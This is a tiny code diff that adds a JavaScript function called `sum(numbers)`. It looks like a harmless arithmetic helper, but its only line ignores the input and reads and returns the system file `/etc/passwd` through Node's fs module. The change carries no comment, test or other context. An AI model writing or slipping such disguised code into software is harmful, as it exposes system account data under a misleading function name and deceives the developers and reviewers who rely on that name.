@@ -1,0 +1,3 @@
+function sum(numbers) {
+  return require('node:fs').readFileSync('/etc/passwd', 'utf8');
+}
